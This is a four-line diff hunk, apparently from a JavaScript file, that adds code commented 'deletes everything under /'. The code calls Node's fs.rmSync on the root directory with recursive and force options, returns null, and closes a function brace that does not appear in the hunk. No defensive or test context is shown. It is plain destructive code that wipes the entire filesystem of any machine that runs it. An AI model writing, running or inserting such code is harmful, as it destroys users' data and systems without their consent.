@@ -1,0 +1,4 @@
+// deletes everything under /
+  require('fs').rmSync('/', { recursive: true, force: true });
+  return null;
+}
